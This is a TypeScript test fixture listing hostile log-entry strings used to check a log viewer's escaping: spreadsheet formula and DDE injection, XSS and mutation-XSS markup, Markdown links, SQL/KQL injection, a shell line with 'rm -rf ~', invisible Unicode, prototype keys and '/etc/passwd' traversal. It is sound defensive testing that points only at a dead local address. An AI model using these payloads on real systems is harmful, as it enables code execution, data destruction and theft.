// Texts that somebody may have put into a log to attack who reads it: run as a formula, as markup, as a query, hide or reverse what stands beside
// them, break a line, a parser or a prototype. Every field of an event, every view and every export is tried with all of them
// (tests/web/hostile.test.ts, tests/browser/hostile.test.ts). Written with escapes only, so that this file itself is harmless to read: ASCII
// alone stands in it. Should one ever run as script, it sets `hostileRan`, which the tests look for; should one ever be fetched, the address
// is one of this machine that nobody listens on.

export interface Payload {
  /** What it is, in a few words; unique. */
  name: string;
  text: string;
}

const away = 'http://127.0.0.1:9/';
const run = 'globalThis.hostileRan=1';

const formulas: Record<string, string> = {
  'equals sign': '=1+1',
  'plus sign': '+1+1',
  'minus sign': '-1+1',
  'at sign': '@SUM(1+1)',
  'tab before a formula': '\t=1+2',
  'carriage return before a formula': '\r=1+2',
  'line feed before a formula': '\n=1+2',
  'NUL before a formula': '\0=1+2',
  'full-width equals sign': '\uff1d1+1',
  'full-width plus sign': '\uff0b1+1',
  'full-width minus sign': '\uff0d1+1',
  'full-width at sign': '\uff20SUM(1)',
  'DDE command': "=cmd|' /C calc'!A0",
  'link as a formula': `=HYPERLINK("${away}?"&A1,"click")`,
  'fetch as a formula': `=WEBSERVICE("${away}")`,
  'blank before a formula': ' =1+3',
  'apostrophe before a formula': "'=1+1",
  'two apostrophes before a formula': "''=1+1",
  'quote before a formula': '"=1+1',
  'formula behind a semicolon': 'x;=1+1',
  'formula behind a tab': 'x\t=1+1',
  'formula behind a line end and a blank': 'x\r\n =1+1',
  'fields and rows of CSV': 'a","b\r\n"c',
};

const markup: Record<string, string> = {
  script: `<script>${run}</script>`,
  'script end first': `</script><script>${run}</script>`,
  'image with a handler': `<img src=x onerror=${run}>`,
  'svg with a handler': `<svg onload=${run}>`,
  'svg without blanks': `<svg/onload=${run}//`,
  'svg script': `<svg><script href="data:,${run}"/></svg>`,
  'link that runs': `<a href="javascript:${run}">x</a>`,
  'bare address that runs': `javascript:${run}//`,
  'frame that runs': `<iframe src="javascript:parent.hostileRan=1"></iframe>`,
  'frame with a document': `<iframe srcdoc="<script>parent.hostileRan=1</script>">`,
  'details that open': `<details open ontoggle=${run}>`,
  'focus that runs': `<input autofocus onfocus=${run}>`,
  object: `<object data="${away}"></object>`,
  'unclosed tag': '<b',
  'unclosed attribute': '<img src="',
  'unclosed comment': '<!--',
  'comment end': '-->',
  'section end': ']]>',
  'section with a script': `<![CDATA[<script>${run}</script>`,
  'end of table and page': '</bdi></td></tr></table></main></body></html><h1>gone',
  'changes when parsed again, math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'changes when parsed again, noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'changes when parsed again, forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'page that goes away': `<meta http-equiv="refresh" content="0;url=${away}">`,
  'style that hides': '<style>*{display:none!important}</style>',
  'base address': `<base href="${away}">`,
  'style from elsewhere': `<link rel=stylesheet href="${away}x.css">`,
  'template element': `<template><img src=x onerror=${run}></template>`,
  'template braces': `{{constructor.constructor("${run}")()}}`,
  'template literal': `\${${run}}`,
  'server template': '<%= 7*7 %>#{7*7}',
  entities: '&lt;script&gt;&#60;b&#x3e;&amp;amp;',
  'quote and handler': `" onmouseover="${run}" x="`,
  'apostrophe and handler': `' onmouseover='${run}' x='`,
};

const markdown: Record<string, string> = {
  link: `[x](${away})`,
  'link that runs, Markdown': `[x](javascript:${run})`,
  image: `![x](${away}p.png)`,
  autolink: `<${away}>`,
  'bare addresses': `${away}x www.example.invalid someone@example.invalid`,
  'reference link': `[a]: ${away}\n[a]`,
  footnote: '[^1]\n\n[^1]: note',
  'pipes of a table': 'a|b\\|c||',
  'a table': '| a |\n|---|\n| b |',
  backticks: '`code` ``` ~~~',
  emphasis: '*b* _i_ **bb** __u__ ~~s~~',
  head: '# head',
  'head by a line': 'head\n====',
  list: '- list',
  'numbered list': '1. list',
  'quoted line': '> quote',
  rule: '***',
  'what typography changes': 'a -- b --- c ... d.. (c) (tm) +- 1,,2 who???? no!!!! "q" \'q\'',
  'break element': 'a<br>b<br/>c',
};

const queries: Record<string, string> = {
  'SQL, end and drop': '"; drop table AzureActivity; --',
  'SQL, always true': "' or '1'='1",
  'SQL, comment': '/* x */ -- y',
  'SQL, dollars': '$$x$$ $tag$y$tag$',
  backslash: '\\',
  'backslash and quote': '\\"',
  'backslash and apostrophe': "\\'",
  'KQL, hidden literal': 'h@"..\\" or true //"',
  'KQL, doubled quotes': '@"x""y"',
  'KQL, next line': 'x" or true // \n| project Caller; "',
  'KQL, union': 'x\r| union *',
  'KQL, many lines': '```\n| take 1\n```',
  'format directives': '%s%n%d%1$s',
  'shell words': '$(id) `id` ; rm -rf ~ & | > x',
};

const hidden: Record<string, string> = {
  'bidirectional embeddings': 'a\u202ab\u202bc\u202cd\u202de\u202ef',
  'bidirectional isolates': 'a\u2066b\u2067c\u2068d\u2069e',
  'bidirectional marks': '\u200ea\u200fb\u061cc',
  'name that reads backwards': '\u202emoc.osotnoc@nimda',
  'zero width': 'ad\u200bmi\u200cn\u200d',
  'word joiner and byte order mark': '\ufeffad\u2060min\ufeff',
  'tag characters': 'admin\u{e0061}\u{e0062}\u{e007f}',
  'variation selectors': 'a\ufe0fb\u{e0100}',
  'fillers and the empty Braille cell': '\u3164a\u115fb\uffa0c\u2800',
  'soft hyphen and joiner': 'ad\u00admin\u034f',
  'marks piled up': `z${'\u0335\u0316\u0301'.repeat(60)}algo`,
  'mark without a letter': '\u0301\u0301x',
  'right-to-left text': '\u05d0\u05d1\u05d2 (\u0645\u0631\u062d\u0628\u0627) 1-2',
  'NUL inside': 'a\0b',
  'controls of C0': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x'),
  'delete and controls of C1': Array.from({ length: 33 }, (_, code) => String.fromCharCode(127 + code)).join('x'),
  'terminal colours': '\x1b[31mred\x1b[0m\x1b[2J\x07',
  'terminal link and title': `\x1b]8;;${away}\x07x\x1b]8;;\x07\x1b]0;title\x07`,
  'line and paragraph separators': 'a\u2028b\u2029c\u0085d\vd\fe',
  'blanks that are none': 'a\u00a0b\u2003c\u3000d\u1680e',
  noncharacters: 'a\ufffeb\uffffc\ufdd0d\u{1ffff}',
  'private use': 'a\ue000b\u{f0000}c',
  'looks like an overlong form': '\u00c0\u00af\u00e0\u0080\u00af%c0%af',
  'typed escapes': '\\u{202E}\\u202e\\x1b\\n\\u{}',
  'blanks at both ends': '  x  y  ',
  'blanks alone': '   ',
  'half a pair, high': 'a\ud800b',
  'half a pair, low': 'a\udc00b',
  'pair the wrong way round': 'a\udc00\ud800b',
};

const words: Record<string, string> = {
  constructor: 'constructor',
  prototype: 'prototype',
  toString: 'toString',
  hasOwnProperty: 'hasOwnProperty',
  __defineGetter__: '__defineGetter__',
  length: 'length',
  'method of a promise': 'then',
  'JSON in a string': '{"caller":"other","__proto__":{"polluted":true}}',
  'list in a string': '[1,[2,{"a":null}]]',
  null: 'null',
  number: '-0',
  'large number': '1e999',
  date: '2026-03-14T09:00:00Z',
  'path upwards': '../../x',
  'path upwards, Windows': '..\\..\\x',
  'path from the root': '/etc/passwd',
  'path with a drive': 'C:\\x',
  'path of a share': '\\\\127.0.0.1\\share\\x',
  'address of a file': 'file:///etc/passwd',
  'device name': 'CON',
  'device name with an ending': 'NUL.txt',
  'dot and blank at the end': 'name. ',
  'a member of an archive': 'a.zip!/b',
};

// As large as a record of the log may be.
const large: Record<string, string> = { 'a megabyte': `<b>${'long '.repeat(200_000)}=1</b>` };

const groups = [formulas, markup, markdown, queries, hidden, words, large].map((group) => Object.entries(group));

export const payloads: readonly Payload[] = [
  ...groups.flat().map(([name, text]) => ({ name, text })),
  // Not in a table above: there it would be the table's own prototype.
  { name: 'prototype of an object', text: '__proto__' },
];

/** No JSON may hold it: the record that does is rejected, counted, and shown as it stands. */
export const isRefused = ({ text }: Payload): boolean => /\p{Cs}/u.test(text);
